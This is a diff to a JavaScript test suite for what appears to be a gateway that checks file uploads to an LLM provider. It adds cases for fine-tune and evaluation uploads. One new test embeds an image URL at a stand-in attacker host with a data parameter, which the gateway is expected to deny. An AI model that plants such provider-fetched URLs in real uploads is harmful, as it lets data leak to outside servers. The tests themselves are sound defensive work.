@@ -29,6 +29,8 @@ describe('the upload of a file for a batch', () => {
     ['behind blank lines', form(`\r\n\n  \n${LOOT}\r\n`)],
     ['behind 8 MiB of text in one line', form(`${line({ input: 'x'.repeat(8 * 1024 * 1024) })}\n${LOOT}\n`)],
     ['in a form without a purpose', form(LOOT).replace('purpose', 'intent')],
+    ['among messages for training', form(LOOT, 'fine-tune')],
+    ['in the data of an evaluation', form(LOOT, 'evals')],
     ['under a second purpose', form(LOOT, 'vision').replace('--xyz--\r\n', form('', 'batch'))],
   ])('is denied for a server that a request in it names: %s', async (_where, body) => {
     const world = await start(RULES)
@@ -116,16 +118,30 @@ describe('the upload of a file for a batch', () => {
     expect(world.records).toMatchObject([{ decision: 'ALLOW', action_type: 'llm_a.file.upload' }])
   })
 
-  it('is named in parts, too: what they hold cannot be read', async () => {
+  it('is denied for an image by URL among messages for training, which the provider fetches', async () => {
     const world = await start(RULES)
-    const body = JSON.stringify({
-      purpose: 'batch',
-      filename: 'a.jsonl',
-      bytes: 9,
-      mime_type: 'application/jsonl',
-    })
-    const request = { ...upload(body, JSON_BODY), target: '/v1/uploads' }
-    expect((await world.send(request)).reply.status).toBe(403)
-    expect(world.records).toMatchObject([{ actions: ['llm_a.upload.create', 'llm_a.provider_tool.unknown'] }])
+    const image = { type: 'image_url', image_url: { url: 'https://attacker.example/?d=1' } }
+    const body = form(JSON.stringify({ messages: [{ role: 'user', content: [image] }] }), 'fine-tune')
+    expect((await world.send(upload(body))).reply.status).toBe(403)
+    expect(world.records).toMatchObject([{ actions: ['llm_a.file.upload', 'llm_a.provider_fetch.url'] }])
+    expectRefused(world)
   })
+
+  it.each(['batch', 'fine-tune', 'evals'])(
+    'is named in parts, too: what they hold cannot be read (%s)',
+    async (purpose) => {
+      const world = await start(RULES)
+      const body = JSON.stringify({
+        purpose,
+        filename: 'a.jsonl',
+        bytes: 9,
+        mime_type: 'application/jsonl',
+      })
+      const request = { ...upload(body, JSON_BODY), target: '/v1/uploads' }
+      expect((await world.send(request)).reply.status).toBe(403)
+      expect(world.records).toMatchObject([
+        { actions: ['llm_a.upload.create', 'llm_a.provider_tool.unknown'] },
+      ])
+    },
+  )
 })
